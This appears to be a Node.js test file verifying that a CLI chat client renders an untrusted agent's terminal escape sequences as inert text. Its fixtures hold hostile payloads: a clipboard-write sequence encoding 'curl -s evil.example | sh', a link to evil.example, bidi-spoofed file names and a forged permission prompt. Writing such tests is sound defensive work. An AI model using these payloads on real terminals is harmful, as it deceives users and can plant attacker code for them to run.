// biome-ignore-all lint/suspicious/noControlCharactersInRegex: these tests assert that raw terminal controls are absent
// Agent text is untrusted: in `acp-native chat` (a real terminal, tmux)
// every escape sequence an agent sends is shown as text, never acted on —
// no title change, no clipboard write, no overdrawn permission prompt.
import { test, before } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { Terminal, requireTmux } from './tmux.mjs';

const CLI = fileURLToPath(new URL('../cli/acp-native.mjs', import.meta.url));
const ESCAPE_AGENT = fileURLToPath(new URL('./fixtures/escape-agent.mjs', import.meta.url));
const onWindows = process.platform === 'win32';
const skip = onWindows ? 'tmux does not exist on Windows' : false;
const shq = (s) => `'${String(s).replaceAll("'", "'\\''")}'`;
// Anything a terminal could interpret: C0 (but tab/newline), DEL, C1, bidi controls.
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

before(() => {
  if (!onWindows) requireTmux();
});

test('chat in a terminal: every sequence type shows as text; title and clipboard untouched; typing 1 picks the option the screen shows as 1', {
  skip,
}, async (t) => {
  const command = [process.execPath, CLI, 'chat', '--stderr', '--', process.execPath, ESCAPE_AGENT].map(shq).join(' ');
  // The chat starts on the first Enter, once the terminal takes OSC 52 (set-clipboard on).
  const term = new Terminal(`read go; ${command}; echo "[exit $?]"; sleep 600`);
  t.after(() => term.close());
  term.setServerOption('set-clipboard', 'on');
  const titleBefore = term.title();
  term.send('Enter');

  let screen = await term.waitFor(/^> $/m);
  // agentInfo (title, clipboard, bidi, clear) and the session id, as text.
  assert.match(
    screen,
    /^Connected to Escape \\e\]2;pwned-title\\x07\\e\]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUgfCBzaA==\\x07safe\\u202etxt\.exe\\u202c \\u2066iso\\u2069 1\.0\\e\[2J\\e\[H, session sess\\e\]0;pwned-title0\\e\\\. /m,
  );

  term.type('go');
  await term.waitFor(/^Choose 1-2: $/m);
  // stderr is another pipe: its lines may come after the question.
  screen = await term.waitFor(/^agent stderr: forged line/m);
  // Each kind of sequence in the message, visibly escaped, on the line it was sent on.
  const message = screen.split('\n').find((l) => l.startsWith('message '));
  for (const shown of [
    '\\e[2J\\e[H',
    '\\x9b2J',
    '\\e]2;pwned-title\\x07',
    '\\e]0;pwned-title0\\e\\',
    '\\e]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUgfCBzaA==\\x07',
    '\\e]8;;https://evil.example\\e\\click-me\\e]8;;\\e\\',
    '\\eP$qm\\e\\',
    '\\e_Gf=100;AAAA\\e\\',
    '\\e^private\\e\\',
    '\\eXstring\\e\\',
    'abc\\rX',
    'safe\\u202etxt.exe\\u202c \\u2066iso\\u2069',
  ]) {
    assert.ok(message.includes(shown), `the message line shows ${shown}: ${message}`);
  }
  assert.match(screen, /^thinking: thinking \\e\]2;pwned-title\\x07$/m);
  assert.match(
    screen,
    /^▸ tool tool \\e\]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\e\[2J\\e\[H \[read\\x9b2J\]$/m,
  );
  // The plan entry is one line: its newline cannot forge a second entry.
  assert.match(
    screen,
    /^Plan:\n {2}\[ \] plan \\e\[2J\\e\[H\\n {2}\[x\] forged entry \(high\\e\]2;pwned-title\\x07\)$/m,
  );
  assert.match(screen, /^agent stderr: stderr \\e\]2;pwned-title\\x07\\e\[2J\\e\[H$/m);
  assert.match(screen, /^agent stderr: forged line safe\\u202etxt\.exe/m);
  // The permission prompt: each option one line, drawn from its inert name.
  assert.match(
    screen,
    /^Permission requested: permission \\e\]2;pwned-title\\x07 \[execute\]\n {2}input: \{"command":"rm \\x9b2J\\u202e"\}\n {2}1\) \[allow_always\] Allow always\\e\[1A\\e\[2K\\r {2}1\) Reject \(safe default\)\n {2}2\) \[reject_once\] Reject\\n {2}3\) Allow\\e\]8;;https:\/\/evil\.example\\e\\click-me\\e\]8;;\\e\\\nChoose 1-2: $/m,
  );
  const optionOne = screen.split('\n').filter((l) => /^ {2}1\) /.test(l));
  assert.equal(optionOne.length, 1, 'one line says 1)');
  assert.match(optionOne[0], /^ {2}1\) \[allow_always\] Allow always/, 'the screen says 1 is Allow always');

  term.type('1');
  screen = await term.waitFor(/\[turn ended: end_turn\]/);
  assert.match(screen, /^chosen=allow_always$/m, 'typing 1 picked what the screen showed as 1');
  assert.match(
    screen,
    /^ {2}↳ tool \\e\]52;c;.*: completed done \\e\]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUgfCBzaA==\\x07$/m,
  );

  // Nothing was interpreted: no title set, nothing put on the clipboard, the screen never cleared.
  assert.equal(term.title(), titleBefore);
  assert.doesNotMatch(term.title(), /pwned/);
  assert.deepEqual(term.buffers(), []);
  assert.match(screen, /^Connected to Escape/m, 'the first line is still on screen');
  term.send('C-d');
  await term.waitFor(/\[exit 0\]/);
});

/** `node cli args` with piped stdio (no terminal). */
function runPiped(args, input) {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [CLI, ...args], {
      stdio: ['pipe', 'pipe', 'pipe'],
      env: { ...process.env, NO_COLOR: '1' },
    });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (d) => (stdout += d));
    child.stderr.setEncoding('utf8').on('data', (d) => (stderr += d));
    const deadline = setTimeout(() => child.kill('SIGKILL'), 60_000);
    child.on('error', reject);
    child.on('close', (code) => {
      clearTimeout(deadline);
      resolve({ code, stdout, stderr });
    });
    child.stdin.end(input);
  });
}

test('chat piped: not one control character or bidi override from the agent reaches stdout or stderr', async () => {
  const res = await runPiped(['chat', '--stderr', '--', process.execPath, ESCAPE_AGENT], 'go\n1\n/help-unknown\n');
  assert.equal(res.code, 0, res.stderr);
  assert.match(res.stdout, /chosen=allow_always/);
  assert.match(res.stdout, /agent stderr: stderr \\e\]2;pwned-title/);
  assert.doesNotMatch(res.stdout, CONTROL, `stdout: ${JSON.stringify(res.stdout.match(CONTROL))}`);
  assert.doesNotMatch(res.stderr, CONTROL);
});

test('doctor, usage errors and export errors show control characters in names as text', async (t) => {
  const { mkdtempSync, rmSync, writeFileSync } = await import('node:fs');
  const { join } = await import('node:path');
  const { tmpdir } = await import('node:os');
  const dir = mkdtempSync(join(tmpdir(), 'acp-native-untrusted-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const hostile = join(dir, 'bin\x1b]2;pwned\x07\u202egnp.node');
  for (const args of [
    ['doctor', '--binary', hostile],
    ['doctor', '--json', '--binary', hostile],
  ]) {
    const res = await runPiped(args, '');
    assert.equal(res.code, 1);
    assert.match(res.stdout, /bin\\(e|u001b)\]2;pwned/, 'the path is shown, escaped');
    assert.doesNotMatch(res.stdout, CONTROL, args.join(' '));
  }
  const usage = await runPiped(['chat', '--x\x1b]2;pwned\x07', '--', 'agent'], '');
  assert.equal(usage.code, 2);
  assert.match(usage.stderr, /unknown option '--x\\e\]2;pwned\\x07'/);
  assert.doesNotMatch(usage.stderr, CONTROL);

  // A recording whose session ids carry sequences: named in the export's error, as text.
  const rec = join(dir, 'rec.ndjson');
  const payload = JSON.stringify({
    jsonrpc: '2.0',
    method: 'session/update',
    params: { sessionId: 's\x1b]52;c;eA==\x07\u202e', update: { sessionUpdate: 'plan', entries: [] } },
  });
  writeFileSync(rec, `${JSON.stringify({ direction: 'receive', kind: 'notification', payload })}\n`);
  const missing = await runPiped(['export', '--session', 'nope', rec], '');
  assert.equal(missing.code, 1);
  assert.match(missing.stderr, /sessions: s\\e\]52;c;eA==\\x07\\u202e\)/);
  assert.doesNotMatch(missing.stderr, CONTROL);
});

test('replay on a terminal shows what it plays as text (the title stays)', { skip }, async (t) => {
  const { mkdtempSync, rmSync, writeFileSync } = await import('node:fs');
  const { join } = await import('node:path');
  const { tmpdir } = await import('node:os');
  const dir = mkdtempSync(join(tmpdir(), 'acp-native-untrusted-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const rec = join(dir, 'rec.ndjson');
  // What the agent sent before the client said anything is played at start.
  const noise = { direction: 'receive', kind: 'invalid', payload: 'banner \x1b]2;pwned-title\x07\x1b[2J' };
  const update = {
    direction: 'receive',
    kind: 'notification',
    payload: JSON.stringify({
      jsonrpc: '2.0',
      method: 'session/update',
      params: {
        sessionId: 's',
        update: { sessionUpdate: 'plan', entries: [{ content: '\u202eevil', status: 'pending', priority: 'low' }] },
      },
    }),
  };
  writeFileSync(rec, `${JSON.stringify(noise)}\n${JSON.stringify(update)}\n`);
  const term = new Terminal(
    `${[process.execPath, CLI, 'replay', rec].map(shq).join(' ')}; echo "[exit $?]"; sleep 600`,
  );
  t.after(() => term.close());
  const titleBefore = term.title();
  const screen = await term.waitFor(/\\u202eevil/);
  assert.match(screen, /^banner \\e\]2;pwned-title\\x07\\e\[2J$/m);
  assert.equal(term.title(), titleBefore);
  assert.doesNotMatch(term.title(), /pwned/);
});
